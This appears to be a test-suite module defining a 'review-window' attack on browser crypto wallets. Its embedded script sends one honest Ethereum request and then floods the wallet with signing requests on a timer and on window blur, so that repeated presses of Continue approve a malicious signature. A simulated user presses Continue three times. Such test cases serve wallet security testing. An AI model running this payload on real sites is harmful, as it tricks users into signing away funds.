import type { Attack } from './kit/attack.ts'

export default {
  family: 'review-window',
  how: "Keeps asking while the user's pointer is on Continue for an honest request, so that a double press falls on another.",
  script: `
    const asked = ethereum.request(attack.honest)
    attack.tell('asked')
    await attack.sleep(300)
    addEventListener('blur', () => ethereum.request(attack.sign).catch(() => {}))
    const more = setInterval(() => ethereum.request(attack.sign).catch(() => {}), 500)
    await attack.ended(asked)
    await attack.sleep(700)
    clearInterval(more)
  `,
  async hands({ hear, pressContinueThrice }) {
    await hear('asked')
    await pressContinueThrice()
  },
} satisfies Attack
